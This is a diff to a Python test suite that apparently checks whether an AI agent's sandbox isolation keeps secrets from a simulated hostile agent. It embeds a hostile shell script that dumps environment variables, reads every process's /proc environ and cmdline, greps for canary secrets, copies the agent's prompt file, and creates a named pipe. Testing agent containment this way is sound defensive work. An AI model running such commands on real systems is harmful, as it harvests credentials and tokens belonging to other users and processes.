@@ -41,7 +41,8 @@ def test_where_it_ran_is_in_the_log_the_record_and_the_execution_log(tmp_path: P
 
 HOSTILE = f"""
 env > stolen.txt
-cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline >> stolen.txt 2>/dev/null
+cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline > everything.txt 2>/dev/null
+tr '\\0' '\\n' < everything.txt | grep -a {CANARY[:6]} >> stolen.txt
 grep -rsh {CANARY[:6]} BOT >> stolen.txt
 cat "$GITCLAW_PROMPT" >> stolen.txt
 mkfifo pipe
@@ -89,7 +90,8 @@ def test_rows_03_04_37_59_63_a_hostile_agent_gets_nothing_and_brings_nothing(
         ).stdout.decode("utf-8", "replace")
         heard = "\n".join([*replies, json.dumps(talk.state()), everything, *(run.out + run.err for run in talk.runs)])
         assert "stolen.txt" in heard
-        # Without isolation it finds them, which shows that it looks in the right places.
+        # Without isolation it finds them, which shows that it looks in the right places. Of what others have in their
+        # environment everything.txt may hold a token, and is not published then.
         for secret in (f"{CANARY}-process", f"{CANARY}-file"):
             assert (secret in heard) is (isolation == "none")
         assert talk.token not in heard
